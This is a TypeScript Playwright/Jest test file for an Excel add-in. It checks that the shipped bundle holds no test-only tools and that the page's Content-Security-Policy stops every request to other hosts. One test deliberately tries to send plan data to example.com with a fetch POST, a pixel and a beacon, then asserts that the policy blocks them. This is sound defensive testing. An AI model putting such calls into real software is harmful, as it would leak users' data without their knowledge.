import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { Browser, Page } from "playwright-core";
import { haveChromium, launchChromium, serveStatic, StaticServer } from "../support/browser";
import { sharedBuild, SHARED_BUILD_TIMEOUT } from "../support/build";

/*
 * No network: the production build served on 127.0.0.1 and driven in Chromium, as the plain
 * browser page and as the pane inside Excel (office.js replaced by an in-page workbook). Every
 * request of every page, frame and worker goes to the host that serves the page; the page's
 * Content-Security-Policy forbids the rest. The same build (test/support/build.ts, or UP_DIST
 * without stats) is checked for test-only tools (scripts/check-bundle-licences.js with webpack's
 * stats).
 */

const ROOT = join(__dirname, "..", "..");
const PUBLISHED = join(ROOT, "examples", "up-2024-published.xlsx");
if (!haveChromium()) {
  console.warn("test/network: /usr/bin/chromium is missing; browser part skipped");
}

jest.setTimeout(300_000);

let work = "";
let dist = "";
let statsFile = "";
let server: StaticServer;
let origin = "";

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), "up-network-"));
  if (process.env.UP_DIST) {
    dist = process.env.UP_DIST;
  } else {
    ({ dist, statsFile } = await sharedBuild());
  }
  server = await serveStatic(dist);
  origin = server.origin;
}, SHARED_BUILD_TIMEOUT);

afterAll(async () => {
  await server?.close();
  if (work) rmSync(work, { recursive: true, force: true });
});

describe("the shipped bundle", () => {
  const script = join(ROOT, "scripts", "check-bundle-licences.js");
  const check = (...args: string[]) =>
    spawnSync(process.execPath, [script, ...args], { cwd: ROOT, encoding: "utf8" });

  test("holds no test-only tool and no copyleft licence", () => {
    const args = existsSync(statsFile) ? [dist, "--stats", statsFile, "--list"] : [dist];
    const run = check(...args);
    console.log(run.stdout);
    expect(run.stderr).toBe("");
    expect(run.status).toBe(0);
  });

  test("the check fails on a bundle with HyperFormula in it", () => {
    const fake = mkdtempSync(join(work, "fake-dist-"));
    writeFileSync(join(fake, "runtime.js"), 'var e=require("hyperformula");e.licenseKey="gpl-v3";');
    writeFileSync(
      join(fake, "stats.json"),
      JSON.stringify({ modules: [{ name: "./node_modules/hyperformula/es/index.js" }] })
    );
    const run = check(fake, "--stats", join(fake, "stats.json"));
    expect(run.status).toBe(1);
    expect(run.stderr).toContain("runtime.js: contains 'hyperformula'");
    expect(run.stderr).toContain("hyperformula: bundled but only a development dependency");
    expect(run.stderr).toMatch(/hyperformula: bundled with the licence GPL/);
  });
});

(haveChromium() ? describe : describe.skip)("no request leaves the page's host", () => {
  let browser: Browser;
  /** Every URL requested, by every page of the test, for the figures. */
  const all: string[] = [];
  let requests: string[] = [];
  let errors: string[] = [];
  let blockedByPolicy: string[] = [];
  /** Attempts of the pages themselves (office.js's telemetry frame) that the policy stopped. */
  const stoppedAttempts: string[] = [];

  beforeAll(async () => {
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    const hosts = new Set(all.map((u) => (/^https?:/.test(u) ? new URL(u).host : u.split(":")[0])));
    console.log(
      `Network: ${all.length} requests, to ${[...hosts].join(", ")} (example.com: the test's own attempts, blocked); stopped by the policy in normal use: ${stoppedAttempts.join(", ") || "nothing"}`
    );
  });

  async function newPage(): Promise<Page> {
    requests = [];
    errors = [];
    blockedByPolicy = [];
    const context = await browser.newContext({ acceptDownloads: true, locale: "nl-NL" });
    // Every request of the context: pages, frames, workers, beacons.
    context.on("request", (r) => {
      requests.push(r.url());
      all.push(r.url());
    });
    context.on("requestfailed", (r) => {
      // Chromium names the reason "csp" (net::ERR_BLOCKED_BY_CSP in its log).
      if (/^csp$|BLOCKED_BY_CSP/i.test(r.failure()?.errorText ?? "")) blockedByPolicy.push(r.url());
    });
    const page = await context.newPage();
    page.on("pageerror", (e) => errors.push(e.message));
    // What the policy blocked in the page: in normal use nothing (the policy breaks nothing).
    await page.addInitScript(() => {
      const w = window as unknown as { __csp: string[] };
      w.__csp = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        w.__csp.push(`${e.violatedDirective} ${e.blockedURI}`)
      );
    });
    return page;
  }

  /**
   * What the policy blocked besides attempts to reach other hosts: an inline script, eval or a
   * resource of our own would mean the policy breaks the page.
   */
  const brokenByPolicy = async (page: Page) => {
    const reports = await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp);
    stoppedAttempts.push(...reports);
    return reports.filter((r) => {
      const uri = r.split(" ")[1] ?? "";
      return !/^https?:/.test(uri) || uri.startsWith(origin);
    });
  };

  const foreign = () =>
    requests.filter((u) => !u.startsWith(`${origin}/`) && !/^(data|blob):/.test(u));

  test("the page carries a Content-Security-Policy that keeps everything on its host", async () => {
    const html = readFileSync(join(dist, "taskpane.html"), "utf8");
    // The build minifies the page: attribute quotes may be gone.
    const csp =
      /http-equiv=["']?Content-Security-Policy["']?\s+content="([^"]+)"/i.exec(html)?.[1] ?? "";
    const directives = new Map(
      csp.split(";").map((d) => {
        const [name, ...values] = d.trim().split(/\s+/);
        return [name, values] as [string, string[]];
      })
    );
    expect(directives.get("default-src")).toEqual(["'self'"]);
    for (const d of ["script-src", "connect-src", "frame-src"]) {
      expect([d, directives.get(d)]).toEqual([d, ["'self'"]]);
    }
    expect(directives.get("object-src")).toEqual(["'none'"]);
    expect(html).not.toMatch(/(src|href)=["']?https?:/);
  });

  test("the plain browser page: open a plan, every tab, the report download", async () => {
    const page = await newPage();
    await page.goto(`${origin}/taskpane.html`);
    await page.getByRole("button", { name: "Excel-bestand kiezen…" }).waitFor();
    await page.setInputFiles("input[type=file]", PUBLISHED);
    await page.getByRole("tab", { name: /Bevindingen/ }).waitFor();
    for (const tab of ["Plan", "Verdeelsleutel", "Vergelijken", "Verslag", "Bevindingen"]) {
      await page.getByRole("tab", { name: new RegExp(`^${tab}`) }).click();
      await page.getByRole("tabpanel").waitFor();
    }
    await page.getByRole("tab", { name: /^Verslag/ }).click();
    const buttons = page.getByRole("tabpanel").getByRole("button");
    const downloads: string[] = [];
    page.on("download", (d) => downloads.push(d.suggestedFilename()));
    for (let i = 0; i < (await buttons.count()); i++) {
      if (await buttons.nth(i).isEnabled()) await buttons.nth(i).click();
    }
    // office.js opens its telemetry frame some seconds after load, outside Office.
    await page.waitForTimeout(4000);
    expect(foreign()).toEqual([]);
    expect(errors).toEqual([]);
    expect(await brokenByPolicy(page)).toEqual([]);
    expect(downloads.length).toBeGreaterThan(0);
  });

  test("the policy is enforced: a request to another host from the page is blocked", async () => {
    const page = await newPage();
    await page.goto(`${origin}/taskpane.html`);
    await page.getByRole("button", { name: "Excel-bestand kiezen…" }).waitFor();
    const blocked = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        seen.push(`${e.violatedDirective} ${e.blockedURI}`)
      );
      const attempts: string[] = [];
      try {
        await fetch("http://example.com/telemetry", { method: "POST", body: "plan" });
        attempts.push("fetch went out");
      } catch {
        attempts.push("fetch blocked");
      }
      const img = new Image();
      img.src = "http://example.com/pixel.png";
      navigator.sendBeacon?.("http://example.com/beacon", "plan");
      await new Promise((r) => setTimeout(r, 500));
      return { attempts, seen };
    });
    expect(blocked.attempts).toEqual(["fetch blocked"]);
    expect(blocked.seen).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^connect-src http:\/\/example\.com/),
        expect.stringMatching(/^img-src http:\/\/example\.com/),
      ])
    );
    // Chromium reports the image as requested, then fails it before it leaves the browser.
    expect(foreign().filter((u) => !blockedByPolicy.includes(u))).toEqual([]);
  });

  (existsSync(join(__dirname, "..", "e2e", "fakeOffice.ts")) ? test : test.skip)(
    "the pane inside Excel: check, every tab, nothing leaves the host",
    async () => {
      const { fakeOfficeScript } = await import("../e2e/fakeOffice");
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(PUBLISHED);
      const cells: Record<string, { v: string | number }> = {};
      wb.getWorksheet("Uitvoeringsplan")!.eachRow((row) =>
        row.eachCell((cell) => {
          const v = cell.value;
          if (typeof v === "number" || typeof v === "string") cells[cell.address] = { v };
        })
      );
      const script = fakeOfficeScript({
        name: "Uitvoeringsplan 2024.xlsx",
        sheets: [{ name: "Uitvoeringsplan", cells }],
      });
      const page = await newPage();
      await page.route("**/office/office.js", (route) =>
        route.fulfill({ body: script, contentType: "text/javascript" })
      );
      await page.goto(`${origin}/taskpane.html`);
      await page.getByRole("button", { name: "Controleer plan" }).click();
      await page.getByRole("tab", { name: /Bevindingen/ }).waitFor();
      for (const tab of ["Plan", "Verdeelsleutel", "Vergelijken", "Acties", "Bevindingen"]) {
        await page.getByRole("tab", { name: new RegExp(`^${tab}`) }).click();
        await page.getByRole("tabpanel").waitFor();
      }
      await page.waitForTimeout(1000);
      expect(foreign()).toEqual([]);
      expect(errors).toEqual([]);
      expect(await brokenByPolicy(page)).toEqual([]);
    }
  );
});
